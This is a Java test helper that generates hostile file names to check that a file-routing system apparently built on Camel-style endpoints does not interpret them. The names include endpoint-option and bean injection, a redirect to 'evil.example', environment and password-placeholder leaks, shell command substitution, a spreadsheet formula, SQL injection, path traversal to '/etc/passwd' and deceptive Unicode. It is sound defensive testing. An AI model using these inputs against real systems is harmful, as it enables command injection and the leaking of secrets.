package be.zeef.testing;

import java.util.ArrayList;
import java.util.List;

/**
 * Names that somebody who writes into a partner's folder may give a file, so that one who uses the name is bent by it. None
 * of them may ever be read, removed, logged or told.
 */
public final class HostileNames {

    /** A file that many of the names would make, where the process works. */
    public static final String CANARY_FILE = "zeef-hostile-name-was-here";

    private HostileNames() {}

    /**
     * All of them, between what a route's pattern wants first and last, so that the pattern is no help.
     *
     * @param canary a class whose construction is noticed
     */
    public static List<String> all(String first, String last, Class<?> canary) {
        String made = "#class:" + canary.getName();
        List<String> names = new ArrayList<>();
        for (String middle : List.of(
                // options of an endpoint
                "&exceptionHandler=#class:java.io.FileOutputStream('" + CANARY_FILE + "')&moveFailed=x",
                "&processStrategy=" + made,
                "?filter=" + made,
                "&onCompletionExceptionHandler=" + made + "&delete=false",
                "&idempotentRepository=#bean:magdaTls",
                "&password=RAW(x)&host=evil.example",
                "RAW(a",
                "RAW{a}",
                made,
                "#bean:sftpKey",
                "#valueAs(int):1",
                // expressions
                "${bean:type:" + canary.getName() + "?method=made}",
                "$simple{sysenv:PATH}",
                "${env:PATH}",
                "{{partners.magdaFiles.password}}",
                "{{env:PATH}}",
                "{0}%s%n%d",
                "=cmd|' C calc'!A1",
                "$(touch " + CANARY_FILE + ")",
                "`touch " + CANARY_FILE + "`",
                "';drop table grants;--",
                // paths and patterns
                "../../" + CANARY_FILE,
                "..\\" + CANARY_FILE,
                "%2e%2e%2f" + CANARY_FILE,
                "/etc/passwd",
                "*",
                "?",
                "[A-Za-z0-9]",
                // characters
                "a\u0000b",
                "a\nb",
                "a\rb",
                "a\tb",
                "a b",
                "\u001b[2J\u001b]0;owned\u0007",
                "\u202Elmx.",
                "\u200Ea\u200Bb",
                "\uFEFFa",
                "\u0430dmin",
                "\uFF21\u00E9",
                // lengths
                "a".repeat(121),
                "a".repeat(4000))) {
            names.add(first + middle + last);
        }
        names.add("." + first + "hidden" + last);
        names.add(".." + first + last);
        names.add(" " + first + "blank" + last);
        names.add(" ");
        return List.copyOf(names);
    }
}
